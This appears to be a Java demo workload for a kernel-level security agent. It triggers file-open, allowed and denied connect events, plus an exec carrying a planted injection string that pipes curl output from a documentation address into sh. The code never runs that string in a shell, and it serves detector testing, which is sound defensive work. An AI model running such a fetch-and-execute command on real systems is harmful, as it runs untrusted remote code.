package dev.twinlane.agent;

import java.io.IOException;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * What `twinlane demo` makes the kernel report: execs that open files under the watched scratch
 * directory, a connect that is allowed, one to the port a deny rule names, and an exec whose argv
 * carries a shell-injection payload. Every command runs without a shell around it, so the payload
 * is never interpreted (and 198.51.100.7, a documentation address, is never contacted).
 */
final class DemoWorkload {
    /** The planted argument: what a command-injection detector looks for. */
    static final String PLANTED = "x; curl http://198.51.100.7/x | sh";
    static final String PLANTED_ADDRESS = "198.51.100.7";
    static final int FILES = 3;

    /** What happened, for the summary. */
    record Result(long plantedPid, int deniedExit, String deniedMessage, int allowedExit) {
    }

    private final PrintStream out;

    DemoWorkload(PrintStream out) {
        this.out = out;
    }

    /** Files the execs will open, made before the agent watches the directory. */
    static void prepare(Path scratch) throws IOException {
        Files.createDirectories(scratch);
        for (int i = 1; i <= FILES; i++) {
            Files.writeString(scratch.resolve("notes-" + i + ".txt"), "demo file " + i + "\n");
        }
    }

    Result run(Path scratch, int denyPort) throws IOException, InterruptedException {
        for (int i = 1; i <= FILES; i++) {
            Path f = scratch.resolve("notes-" + i + ".txt");
            run("exec + file_open", "/bin/cat", f.toString());
        }
        int allowed;
        try (ServerSocket server = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            allowed = run("connect, allowed", "/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort());
        }
        Process denied = new ProcessBuilder("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + denyPort)
                .redirectErrorStream(true).start();
        String message = finish(denied);
        String line = message.lines().filter(l -> l.contains("connect")).findFirst().orElse(message.strip());
        out.println("  connect, denied by --deny-port " + denyPort + ": bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + denyPort
                + "' -> exit " + denied.exitValue() + ": " + line);
        Process planted = new ProcessBuilder("/bin/true", "--comment", PLANTED).start();
        finish(planted);
        out.println("  exec with a planted argv: /bin/true --comment '" + PLANTED + "' (pid " + planted.pid()
                + "; no shell runs it)");
        return new Result(planted.pid(), denied.exitValue(), line, allowed);
    }

    private int run(String what, String... command) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = finish(p);
        out.println("  " + what + ": " + String.join(" ", List.of(command)) + " -> exit " + p.exitValue()
                + (p.exitValue() == 0 ? "" : ": " + output.strip()));
        return p.exitValue();
    }

    private static String finish(Process p) throws IOException, InterruptedException {
        String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        if (!p.waitFor(10, TimeUnit.SECONDS)) {
            p.destroyForcibly();
        }
        return output;
    }
}
